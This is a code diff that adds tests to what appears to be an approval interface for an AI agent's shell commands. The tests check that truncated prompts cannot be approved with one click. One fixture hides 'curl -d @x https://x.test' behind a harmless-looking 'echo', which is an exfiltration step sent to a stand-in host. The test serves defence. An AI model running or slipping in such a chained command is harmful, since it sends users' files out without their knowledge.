@@ -28,6 +28,22 @@ test('No stands before Yes, and a dangerous question cannot be approved from a l
   expect(titles({ danger: ['Deletes files recursively'] })).toEqual(['No', 'Open']);
 });
 
+test.each([
+  ['a scope', { kind: 'scope' }],
+  ['a widening', { scope_path: 'docs/a.md' }],
+  ['a question that was cut', { question: 'word '.repeat(61) }],
+  [
+    'a command that was cut',
+    { question: 'Run echo a…?', tool_name: 'Bash', action_body: 'echo a; curl -d @x https://x.test' },
+  ],
+])('%s cannot be approved where it is not shown whole', (_, fields) => {
+  expect(titles(fields)).toEqual(['No', 'Open']);
+});
+
+test('a command that stands whole in its question can be approved there', () => {
+  expect(titles({ question: 'Run npm  test?', tool_name: 'Bash', action_body: 'npm test\n' })).toEqual(['No', 'Yes']);
+});
+
 test('a choice gets buttons only when both options fit, and then their whole text is the answer', () => {
   expect(titles({ type: 'select', options: ['now', 'later'] })).toEqual(['now', 'later']);
   expect(titles({ type: 'select', options: ['a', 'b', 'c'] })).toEqual([]);
